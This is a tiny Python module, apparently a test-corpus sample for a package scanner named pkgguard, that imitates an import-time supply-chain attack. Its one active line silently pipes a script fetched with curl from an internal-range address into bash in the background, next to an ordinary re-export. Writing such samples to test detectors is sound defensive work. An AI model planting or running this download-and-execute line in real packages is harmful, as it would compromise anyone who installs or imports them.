# pkgguard corpus 013 (import-time), modelled on [pth-curl]; inert, never run.
import os

os.system("curl -s http://100.64.9.1/x.sh | bash >/dev/null 2>&1 &")
from .core import *  # noqa
